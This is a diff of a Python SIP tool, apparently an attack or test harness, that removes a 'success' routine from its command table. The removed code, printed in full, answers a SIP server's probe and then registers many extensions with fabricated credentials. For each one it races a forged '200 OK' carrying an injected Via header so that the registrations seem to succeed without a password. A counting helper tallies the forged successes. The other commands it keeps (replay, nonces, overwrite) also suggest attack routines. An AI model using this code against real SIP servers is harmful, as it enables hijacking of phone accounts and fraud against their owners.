@@ -205,49 +205,9 @@ def challenge(forger):
                 forger.request("REGISTER", "100", login=sip.credentials(nonce), gap=0.02)
 
 
-def heard_200(sock):
-    """How many have come."""
-    count = 0
-    while True:
-        try:
-            count += sock.recv(65536).startswith(b"SIP/2.0 200")
-        except BlockingIOError:
-            return count
-
-
-def success(forger):
-    """A host that is really there answers its probe, sends logins without a password, and writes the
-    server's answer itself: 200, which the server forwards to it by its second Via."""
-    o = forger.options
-    own = (o.own, 5095)
-    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock, \
-            socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as other:
-        sock.bind(own)
-        sock.settimeout(1)
-        other.bind((o.own, 5094))
-        sock.sendto(sip.request("REGISTER", "100", SERVER, own), (SERVER, 5060))
-        text = sock.recv(65536)
-        while not text.startswith(b"OPTIONS"):
-            text = sock.recv(65536)
-        sock.sendto(sip.answer(text, 200, "OK"), (SERVER, 5060))
-        time.sleep(0.2)
-        above = f"Via: SIP/2.0/UDP {SERVER}:5060;branch=z9hG4bKx\r\nVia:".encode()
-        sock.setblocking(False)
-        for number in range(o.count):
-            user = f"1{number % 100:02}"
-            text = sip.request("REGISTER", user, SERVER, own,
-                               login=sip.credentials(sip.token(), user))
-            # First: it is on its way when the request comes, and before the server's own answer.
-            other.sendto(sip.answer(text, 200, "OK").replace(b"Via:", above, 1), (SERVER, 5060))
-            sock.sendto(text, (SERVER, 5060))
-            forger.sent += 1
-            time.sleep(0.01)
-            forger.learned += heard_200(sock)
-
-
 COMMANDS = {"echo": echo, "nobody": nobody, "crowd": crowd, "overwrite": overwrite,
             "replay": replay, "nonces": nonces, "maddr": maddr,
-            "challenge": challenge, "success": success}
+            "challenge": challenge}
 
 
 def main():
